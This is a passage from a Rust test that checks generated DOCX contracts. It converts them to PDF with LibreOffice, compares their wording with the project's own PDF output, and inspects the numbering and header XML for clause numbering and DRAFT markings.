        assert!(bytes.starts_with(b"PK"), "a DOCX is a zip");
        // LibreOffice opens it and prints it to PDF.
        let lo = dir.path().join(format!("lo{contract}"));
        let o = soffice_convert(&dir.path().join("lo-profile"), &[], "pdf", &lo, &docx);
        assert!(o.status.success(), "soffice: {}", stderr(&o));
        let converted = lo.join(format!("a{contract}.pdf"));
        assert!(
            converted.exists(),
            "LibreOffice could not open {docx:?}: {}",
            stderr(&o)
        );
        let ours = agreement_words(&pdf);
        let theirs = agreement_words(&converted);
        // The same words in the same order, from the title to the signature block.
        let from = |w: &[String]| w.iter().position(|x| x == "Terms").expect("Terms heading");
        let to = |w: &[String]| {
            w.iter()
                .rposition(|x| x == "Signatures")
                .expect("Signatures")
        };
        assert_eq!(
            theirs[from(&theirs)..to(&theirs)].join(" "),
            ours[from(&ours)..to(&ours)].join(" "),
            "contract {contract}: the DOCX says what the PDF says"
        );
        // Word numbering, not typed numbers: the clause numbers come from numbering.xml.
        let unzip = Command::new("unzip")
            .arg("-p")
            .arg(&docx)
            .arg("word/numbering.xml")
            .output()
            .expect("unzip");
        let numbering = String::from_utf8_lossy(&unzip.stdout);
        assert!(numbering.contains("%1.%2"), "{numbering}");
        let head = String::from_utf8_lossy(
            &Command::new("unzip")
                .arg("-p")
                .arg(&docx)
                .arg("word/header1.xml")
                .output()
                .expect("unzip")
                .stdout,
        )
        .into_owned();
        // Drafts say so in the running header; the active one does not.
        assert_eq!(head.contains("DRAFT"), contract == "4", "{head}");
    }
}
